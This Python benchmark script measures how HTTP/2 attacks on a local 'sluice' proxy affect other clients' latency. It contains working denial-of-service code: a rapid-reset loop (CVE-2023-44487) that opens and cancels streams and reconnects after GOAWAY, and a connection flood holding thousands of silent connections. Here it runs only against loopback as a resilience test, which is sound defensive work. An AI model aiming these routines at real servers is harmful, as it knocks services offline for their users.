#!/usr/bin/env python3
"""Other clients' latency while the proxy's HTTP/2 edge is attacked (issue 41), merged topology.

    .venv/bin/python tests/bench/http2_attack_bench.py [--seconds 10] [--rate 1000] [--repo PATH]
                                                       [--attacks none,reset,flood]

Starts `sluice up` (from `--repo`, default this checkout: give another checkout to compare) on free
loopback ports and, per phase, runs `sluice bench produce --rate R --batch 1` (one message per
SendMessage, 16 in flight, the bench's own HTTP/2 client) as the victim, printing its p50 / p99 /
p999 and the server's CPU per message, while this process attacks from one thread:

- `none`: no attack (the baseline: p99 of one send at R msg/s);
- `reset`: rapid reset (CVE-2023-44487) — a connection opens a stream and resets it at once, over
  and over; when the server ends the connection (GOAWAY) it reconnects and goes on;
- `flood`: a connection flood — `--connections` connections opened and held silent, plus a churn
  of connections that open, send the preface and close.

Every attack runs only for its phase and stops by itself; the server is stopped by PID and its
temporary data dir removed.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import logging
import os
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

REPO_ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(REPO_ROOT))

from tests.helpers import h2raw as h  # noqa: E402
from tests.helpers.procs import LOOPBACK, free_port  # noqa: E402

PATH = "/apache.rocketmq.v2.MessagingService/QueryRoute"
START_TIMEOUT_S = 60.0
CHURN_PER_S = 200


async def _reset_attack(port: int, stop: threading.Event, counts: dict[str, int]) -> None:
    while not stop.is_set():
        try:
            client = await h.RawClient.connect(LOOPBACK, port)
        except OSError:
            await asyncio.sleep(0.01)
            continue
        sid = 1
        try:
            while not stop.is_set() and not client.writer.is_closing():
                for _ in range(100):
                    client.request(sid, PATH, None, ("x-mq-client-id", "attacker"))
                    client.send(h.frame(h.RST_STREAM, 0, sid, struct.pack(">I", h.CANCEL)))
                    sid += 2
                    counts["resets"] += 1
                await client.writer.drain()
                if client.reader.at_eof():
                    break
                await asyncio.sleep(0)
        except (ConnectionError, OSError):
            pass
        counts["connections"] += 1
        client.close()


async def _flood_attack(port: int, connections: int, stop: threading.Event, counts: dict[str, int]) -> None:
    held = []
    for _ in range(connections):
        try:
            held.append(await asyncio.open_connection(LOOPBACK, port))
        except OSError:
            break
    counts["held"] = len(held)
    while not stop.is_set():
        started = time.monotonic()
        for _ in range(CHURN_PER_S // 10):
            try:
                _, writer = await asyncio.open_connection(LOOPBACK, port)
            except OSError:
                continue
            writer.write(h.PREFACE + h.settings())
            writer.close()
            counts["churned"] += 1
        await asyncio.sleep(max(0.0, 0.1 - (time.monotonic() - started)))
    for _, writer in held:
        writer.close()


def _attack(kind: str, port: int, connections: int, stop: threading.Event, counts: dict[str, int]) -> None:
    # The attacker writes on until it sees the server's close: asyncio then warns of every write
    # to the closed socket ("socket.send() raised exception."), ~1,000 lines that say nothing.
    logging.getLogger("asyncio").setLevel(logging.ERROR)
    if kind == "reset":
        asyncio.run(_reset_attack(port, stop, counts))
    elif kind == "flood":
        asyncio.run(_flood_attack(port, connections, stop, counts))


def _victim(repo: Path, endpoint: str, pid: int, seconds: float, rate: int) -> dict[str, float]:
    argv = [sys.executable, "-m", "sluice", "bench", "produce", "--endpoint", endpoint, "--duration", str(seconds),
            "--warmup", "1", "--rate", str(rate), "--batch", "1", "--concurrency", "16", "--json", "--quiet",
            "--watch-pids", str(pid)]  # fmt: skip
    done = subprocess.run(argv, cwd=REPO_ROOT, capture_output=True, text=True, timeout=seconds + 120, check=True)
    result = json.loads(done.stdout)
    meter = result["meters"]["send"]
    lat = meter["latency_ms"]
    messages = max(1, int(meter["messages"]))
    return {"msg/s": meter["messages_per_s"], "p50 ms": lat["p50"], "p99 ms": lat["p99"], "p999 ms": lat["p999"],
            "errors": result["error_total"], "server µs/msg": result["cpu"]["watched_s"] / messages * 1e6}  # fmt: skip


def _wait_listening(port: int, server: subprocess.Popen[bytes]) -> None:
    deadline = time.monotonic() + START_TIMEOUT_S
    while time.monotonic() < deadline and server.poll() is None:
        try:
            socket.create_connection((LOOPBACK, port), timeout=1).close()
            time.sleep(1.0)  # the proxy listens once the broker is up
            return
        except OSError:
            time.sleep(0.1)
    raise RuntimeError(f"sluice up did not listen on {port}")


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--seconds", type=float, default=10.0)
    ap.add_argument("--rate", type=int, default=1000)
    ap.add_argument("--repo", type=Path, default=REPO_ROOT, help="the checkout whose `sluice up` is measured")
    ap.add_argument("--attacks", default="none,reset,flood")
    ap.add_argument("--connections", type=int, default=2000, help="connections the flood holds")
    args = ap.parse_args()
    root = Path(tempfile.mkdtemp(prefix="sluice-h2-attack-"))
    port, ns_port, broker_port = free_port(), free_port(), free_port()
    argv = [str(args.repo / ".venv" / "bin" / "python"), "-m", "sluice", "up", "--data-dir", str(root / "data"),
            "--port", str(port), "--namesrv-port", str(ns_port), "--broker-port", str(broker_port), "--flush",
            "async", "--log-level", "warning", "--console-port", "-1"]  # fmt: skip
    log = (root / "up.log").open("wb")
    # The server runs the code of `--repo` alone: its own directory first on the path.
    env = {**os.environ, "PYTHONPATH": str(args.repo)}
    server = subprocess.Popen(argv, cwd=args.repo, env=env, stdout=log, stderr=subprocess.STDOUT)
    try:
        _wait_listening(port, server)
        print(f"sluice up from {args.repo}, {args.rate} msg/s of 1 KiB, B=1, {args.seconds:g} s per phase")
        for kind in args.attacks.split(","):
            stop, counts = threading.Event(), {"resets": 0, "connections": 0, "churned": 0, "held": 0}
            attacker = threading.Thread(target=_attack, args=(kind, port, args.connections, stop, counts), daemon=True)
            attacker.start()
            try:
                row = _victim(REPO_ROOT, f"{LOOPBACK}:{port}", server.pid, args.seconds, args.rate)
            finally:
                stop.set()
                attacker.join(timeout=30)
            shown = "  ".join(f"{k} {v:,.2f}" if isinstance(v, float) else f"{k} {v}" for k, v in row.items())
            attack = {k: v for k, v in counts.items() if v}
            print(f"{kind:<6} {shown}  attack {attack}", flush=True)
    finally:
        server.send_signal(signal.SIGTERM)
        try:
            server.wait(timeout=30)
        except subprocess.TimeoutExpired:
            server.kill()
            server.wait()
        log.close()
        shutil.rmtree(root, ignore_errors=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
